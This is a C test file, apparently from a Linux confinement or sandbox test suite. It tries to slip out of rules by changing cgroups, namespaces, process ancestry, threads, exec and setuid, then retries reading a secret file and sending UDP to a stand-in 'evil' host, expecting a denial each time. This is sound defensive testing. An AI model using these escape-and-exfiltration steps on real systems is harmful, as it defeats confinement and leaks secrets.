/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Leave the cgroup, the process tree or the user that the rules may hang on, then try again. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define CGROUPS "/sys/fs/cgroup"

static const struct dest evil = { EVIL4, PORT };

/* A01 and B01 in one: what either is refused with. */
static int again(void)
{
	int file = loot_path(KEY), net = udp_to(&evil);

	return file < 0 && net < 0 ? file : 0;
}

/* ---- cgroups -------------------------------------------------------------------------- */

static int move_to(const char *procs)
{
	int fd = open(procs, O_WRONLY | O_CLOEXEC);

	return fd < 0 ? -errno : dprintf(fd, "%d\n", getpid()) < 0 ? -errno : 0;
}

static int child_cgroup(const void *unused)
{
	char own[512] = "", dir[1100], procs[1200];
	int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC), err;

	(void)unused;
	if (fd < 0 || read(fd, own, sizeof(own) - 1) < 4)
		return -errno;
	own[strcspn(own, "\n")] = 0;
	snprintf(dir, sizeof(dir), CGROUPS "%s/attacks-%d", own + 3, getpid());
	if (mkdir(dir, 0755))
		return -errno;
	snprintf(procs, sizeof(procs), "%s/cgroup.procs", dir);
	err = move_to(procs);
	if (err)
		return err;
	err = again();
	(void)move_to(CGROUPS "/cgroup.procs");
	(void)rmdir(dir);
	return err;
}

static int other_cgroup(const void *procs)
{
	int err = move_to(procs);

	return err ? err : again();
}

static int fresh_mount(const void *type)
{
	int err;

	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("none", D "/mnt", type, 0, strcmp(type, "cgroup") ? "" : "none,name=attacks"))
		return -errno;
	err = move_to(D "/mnt/cgroup.procs");
	return err ? err : again();
}

static int cgroup_namespace(const void *unused)
{
	(void)unused;
	if (unshare(CLONE_NEWCGROUP | CLONE_NEWNS) ||
	    mount("none", D "/mnt", "cgroup2", 0, NULL))
		return -errno;
	return other_cgroup(D "/mnt/cgroup.procs");
}

static int received_cgroup(const void *unused)
{
	int fd = receive_fd("procs");

	(void)unused;
	if (fd < 0)
		return fd;
	return dprintf(fd, "%d\n", getpid()) < 0 ? -errno : again();
}

/* Somebody outside moves it, as a service manager would. */
static int moved_by_other(const void *unused)
{
	(void)unused;
	meet("move");
	return again();
}

/* Into a cgroup from the start. */
static int cloned_into(const void *unused)
{
	struct {
		uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls,
			set_tid, set_tid_size, cgroup;
	} args = { .flags = 0x200000000ull /* CLONE_INTO_CGROUP */, .exit_signal = SIGCHLD };
	int fd = open(CGROUPS, O_RDONLY | O_DIRECTORY | O_CLOEXEC), status;
	long pid;

	(void)unused;
	args.cgroup = (uint64_t)fd;
	pid = fd < 0 ? -1 : syscall(SYS_clone3, &args, sizeof(args));
	if (pid < 0)
		return -errno;
	if (!pid)
		_exit(-again());
	(void)waitpid((pid_t)pid, &status, 0);
	return WIFEXITED(status) ? -WEXITSTATUS(status) : -ECHILD;
}

/* ---- process trees --------------------------------------------------------------------------- */

static int act_again(const void *unused)
{
	(void)unused;
	return again();
}

static int session(const void *unused)
{
	(void)unused;
	(void)setsid();
	return in_child(act_again, NULL);
}

/* A daemon: its parent ends, and init is its parent. */
static int orphan(const void *unused)
{
	int ends[2], r = -ECHILD;
	pid_t pid, parent;

	(void)unused;
	if (pipe(ends))
		return -errno;
	pid = fork();
	if (!pid) {
		(void)setsid();
		parent = getpid();
		if (fork())
			_exit(0);
		while (getppid() == parent)
			(void)sched_yield();
		r = again();
		_exit(write(ends[1], &r, sizeof(r)) != sizeof(r));
	}
	(void)waitpid(pid, NULL, 0);
	(void)close(ends[1]);
	return read(ends[0], &r, sizeof(r)) == sizeof(r) ? r : -ECHILD;
}

static int by_vfork(const void *unused)
{
	static volatile int r;
	pid_t pid = vfork();

	(void)unused;
	if (!pid) {
		r = again();
		_exit(0);
	}
	(void)waitpid(pid, NULL, 0);
	return r;
}

/* Its father is its father's father. */
static int sibling(const void *unused)
{
	int ends[2], r = -ECHILD;
	long pid;

	(void)unused;
	if (pipe(ends))
		return -errno;
	pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, NULL, NULL, NULL, 0);
	if (!pid) {
		r = again();
		_exit(write(ends[1], &r, sizeof(r)) != sizeof(r));
	}
	if (pid < 0)
		return -errno;
	return read(ends[0], &r, sizeof(r)) == sizeof(r) ? r : -ECHILD;
}

static void *in_thread(void *r)
{
	*(int *)r = again();
	return NULL;
}

static int by_thread(const void *unused)
{
	pthread_t thread;
	int r = -ECHILD;

	(void)unused;
	if (pthread_create(&thread, NULL, in_thread, &r))
		return -errno;
	(void)pthread_join(thread, NULL);
	return r;
}

static int shared_memory_child(void *r)
{
	*(int *)r = again();
	return 0;
}

static int by_clone_vm(const void *unused)
{
	static char stack[65536] __attribute__((aligned(16)));
	int r = -ECHILD;
	int pid = clone(shared_memory_child, stack + sizeof(stack),
			CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_IO | SIGCHLD, &r);

	(void)unused;
	if (pid < 0)
		return -errno;
	(void)waitpid(pid, NULL, 0);
	return r;
}

/* ---- another program, another user --------------------------------------------------------- */

/* What `attack ROW` prints, run by another of its names. */
static int run_row(const char *program, const char *row)
{
	char command[512], line[1024] = "", *field, *rest, how[16] = "", err[32] = "";
	FILE *f;
	int i;

	snprintf(command, sizeof(command), "%s %s nonce=%s", program, row, world.hex);
	f = popen(command, "r");
	if (!f || !fgets(line, sizeof(line), f))
		return -EIO;
	(void)pclose(f);
	for (i = 0, field = strtok_r(line, "\t", &rest); field;
	     i++, field = strtok_r(NULL, "\t", &rest)) {
		if (i == 3)
			snprintf(how, sizeof(how), "%s", field);
		else if (i == 4)
			snprintf(err, sizeof(err), "%s", field);
		else if (i == 5)
			loot(field, strlen(field));
	}
	if (!strcmp(how, "done"))
		return 0;
	return !strcmp(err, "EACCES") ? -EACCES : !strcmp(err, "EPERM") ? -EPERM : -EIO;
}

static int executed(const void *row)
{
	return run_row(D "/bin/attack", row);
}

static void *exec_in_thread(void *unused)
{
	(void)unused;
	(void)execl(D "/bin/attack", "attack", "A02:sendto", "nonce", NULL);
	return NULL;
}

/* The thread that executes is the process from then on. */
static int executed_by_thread(const void *unused)
{
	pthread_t thread;
	int status;
	pid_t pid = fork();

	(void)unused;
	if (!pid) {
		(void)dup2(open("/dev/null", O_WRONLY), STDOUT_FILENO);
		(void)pthread_create(&thread, NULL, exec_in_thread, NULL);
		for (;;)
			pause();
	}
	(void)waitpid(pid, &status, 0);
	return executed("A02:sendto");
}

static int set_uid(const void *row)
{
	return run_row(D "/bin/suid", row);
}

#define ROW(n, f, a, b, j, e, v) { .name = n, .run = f, .arg = a, .by = b, .judge = j, .err = e, \
				   .event = v }
#define CGROUP(n, f, a, v) ROW(n, f, a, BY_ROOT, "both", "EACCES EPERM", v)
#define TREE(n, f) ROW(n, f, NULL, BY_BOTH, "both", "EACCES", "open/rule")

const struct attack attacks_leave[] = {
	CGROUP("C01:child", child_cgroup, NULL, "mkdir/guard"),
	CGROUP("C02:root", other_cgroup, CGROUPS "/cgroup.procs", "open/guard"),
	CGROUP("C02:threads", other_cgroup, CGROUPS "/cgroup.threads", "open/guard"),
	CGROUP("C02:sibling", other_cgroup, CGROUPS "/attacks/cgroup.procs", "open/guard"),
	CGROUP("C02:clone-into", cloned_into, NULL, "task/guard"),
	CGROUP("C03:cgroup2", fresh_mount, "cgroup2", "capable/guard mount/guard"),
	CGROUP("C03:namespace", cgroup_namespace, NULL, "capable/guard mount/guard"),
	ROW("C05:received", received_cgroup, NULL, BY_BOTH, "both", "EACCES", "receive/guard"),
	TREE("C06:moved", moved_by_other),
	{ .name = "C07:new-socket", .run = moved_by_other, .judge = "both", .err = "EACCES EPERM",
	  .event = "socket/guard socket/foreign socket/dead socket/family open/rule" },

	ROW("C14:network", set_uid, "A02:sendto", BY_BOTH, "evil", "EPERM", "send/rule"),
	ROW("C14:file", set_uid, "B01:open", BY_BOTH, "claim", "EACCES", "open/rule"),
	ROW("C14:kernel", set_uid, "C11:init-module", BY_BOTH, "claim", "EPERM", NULL),

	TREE("C15:session", session),
	TREE("C15:orphan", orphan),
	TREE("C15:vfork", by_vfork),
	TREE("C15:sibling", sibling),
	TREE("C15:thread", by_thread),
	TREE("C15:clone-vm", by_clone_vm),
	ROW("C15:executed", executed, "A02:sendto", BY_BOTH, "evil", "EPERM", "send/rule"),
	ROW("C15:executed-by-thread", executed_by_thread, NULL, BY_BOTH, "evil", "EPERM",
	    "send/rule"),
	{},
};
